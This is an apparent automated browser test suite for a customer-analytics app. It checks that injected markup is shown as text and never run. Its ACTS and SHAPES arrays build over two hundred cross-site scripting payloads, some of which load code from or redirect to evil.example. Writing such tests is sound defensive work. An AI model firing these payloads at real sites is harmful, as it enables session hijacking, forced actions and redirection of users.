// Nothing that a customer or an app sends is ever run: payloads in e-mails, names, keys, values and project names, through every screen.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { launch, signIn, visit } from "../support/browser.mjs";
import { start } from "../support/server.mjs";

const ACTS = [
  "pwned(1)",
  "pwned`1`",
  "alert(1)",
  "top.pwned(1)",
  "window['pwned'](1)",
  "[1].map(pwned)",
  "import('//evil.example/x.js')",
  "fetch('/sign-out',{method:'POST'})",
  "location='//evil.example/'",
];
const SHAPES = [
  (act) => `<script>${act}</script>`,
  (act) => `<img src=x onerror=${act}>`,
  (act) => `"><script>${act}</script>`,
  (act) => `'><img src=x onerror='${act}'>`,
  (act) => `</title><script>${act}</script>`,
  (act) => `</textarea><script>${act}</script>`,
  (act) => `</pre><svg onload=${act}>`,
  (act) => `" autofocus onfocus="${act}`,
  (act) => `' onmouseover='${act}`,
  (act) => `javascript:${act}`,
  (act) => `<a href="javascript:${act}">x</a>`,
  (act) => `<iframe srcdoc="<script>parent.${act}</script>">`,
  (act) => `<details open ontoggle=${act}>`,
  (act) => `<style>@import 'x'</style><b onclick=${act}>`,
  (act) => `<div hx-on:load="${act}" hx-get="/sign-out" hx-trigger="load">`,
  (act) => `<form action=/sign-out method=post data-submit><button>${act}`,
  (act) => `{{ ${act} }}{% raw %}\${${act}}`,
  (act) => `--><script>${act}</script><!--`,
  (act) => `]]><script>${act}</script>`,
  (act) => `&lt;script&gt;${act}&lt;/script&gt;`,
  (act) => `\u202e<script>${act}</script>\u2028`,
  (act) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
  (act) => `<template><script>${act}</script></template>`,
  (act) => `<base href="//evil.example/"><x ${act}`,
  (act) => `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
];
const PAYLOADS = SHAPES.flatMap((shape) => ACTS.map(shape));

let server, browser;
before(async () => ([server, browser] = await Promise.all([start(), launch()])));
after(async () => (await browser?.close(), await server?.stop()));

/** Every so many of the payloads. */
const sample = (every) => PAYLOADS.filter((_, i) => i % every === 0);

test(`${PAYLOADS.length} payloads go through every screen, none is run`, async () => {
  assert.ok(new Set(PAYLOADS).size >= 200);
  await fill();
  const { page, faults } = await visit(browser, server);
  await signIn(server, page);
  for (const path of ["/projects", "/projects/app", "/projects/app/start", "/segments", "/home", "/changes", "/members", "/keys", "/settings"]) {
    await look(page, path);
  }
  await lookThrough(page, "/customers?columns=params.plan,params.list,params.deep,user_id&sort=email");
  for (let i = 0; i < PAYLOADS.length; i += 10) await look(page, `/customers/many${i}@example.com`);
  for (let i = 0; i < PAYLOADS.length; i += 50) {
    await page.goto(`/customers/many${i}@example.com`);
    const person = (await page.locator("a[href$='/merge']").getAttribute("href")).replace("/merge", "");
    await look(page, `${person}/merge?other=many10@example.com`);
    const payload = encodeURIComponent(PAYLOADS[i]);
    await look(page, `${person}/merge?other=${payload}`);
    await look(page, `${person}/correct?project=app&first_seen=${payload}`);
  }
  for (const payload of sample(6)) {
    const path = `params.${JSON.stringify(payload)}`;
    await look(page, `/customers?project=app&filter=${encodeURIComponent(payload)}`);
    const filter = encodeURIComponent(`${path} = ${JSON.stringify(payload)}`);
    await look(page, `/customers?filter=${filter}&columns=${encodeURIComponent(path)}&sum=${encodeURIComponent(path)}`);
  }
  for (const payload of sample(20).map(encodeURIComponent)) {
    for (const path of [`/sign-in?next=${payload}`, `/${payload}`, `/customers?project=${payload}&sort=${payload}`]) {
      await look(page, path);
    }
  }
  // Refused addresses are 4xx, which browsers log; everything else would be a fault.
  assert.deepEqual(faults.filter((fault) => !/status of 4\d\d/.test(fault)), []);
});

/** Stores every payload as name, user_id, value and key, at the top and deep down, and as a change. */
async function fill() {
  const key = await server.project("app", "--name", PAYLOADS[0]);
  const identify = (email, rest) => ({ type: "identify", email, ...rest });
  const each = (payload, i) => identify(`x${i}@example.com`, {
    name: payload.slice(0, 200),
    user_id: payload.slice(0, 200),
    params: { plan: payload, list: [payload], deep: { inner: payload }, mrr: i },
  });
  await server.batch(key, PAYLOADS.map(each));
  await server.batch(key, PAYLOADS.map((payload, i) => identify(`x${i}@example.com`, { params: { plan: `again ${payload}` } })));
  for (let i = 0; i < PAYLOADS.length; i += 10) {
    const ten = PAYLOADS.slice(i, i + 10).map((payload) => [payload, payload]);
    const params = { ...Object.fromEntries(ten), deep: Object.fromEntries(ten) };
    await server.identify(key, { email: `many${i}@example.com`, params });
  }
  await server.identify(key, { email: `"<script>pwned(2)</script>"@example.com` }).catch(() => {}); // refused, or shown as text
}

/** Looks at every page of a table. */
async function lookThrough(page, path) {
  for (let next = path, pages = 0; next; pages++) {
    assert.ok(pages < 20, "the table ends");
    await look(page, next);
    const link = page.getByRole("link", { name: "Next page" });
    next = (await link.count()) ? await link.getAttribute("href") : null;
  }
}

/** Opens a page, waits for its parts, and touches what a hand would touch. */
async function look(page, path) {
  await page.goto(path, { waitUntil: "load" });
  await page.locator(".bone").first().waitFor({ state: "detached", timeout: 10_000 }).catch(() => {});
  await page.mouse.move(400, 400);
  assert.equal(new URL(page.url()).origin, server.url);
}

test("a payload typed into the box stays text", async () => {
  const { page, quiet } = await visit(browser, server);
  await signIn(server, page);
  await page.goto("/customers?project=app");
  for (const payload of sample(9)) {
    await page.locator("#filter").fill(`${payload} `);
    await page.waitForTimeout(120);
    assert.equal(await page.locator(".ink").innerText().then((text) => text.trim()), payload.trim());
  }
  quiet();
});
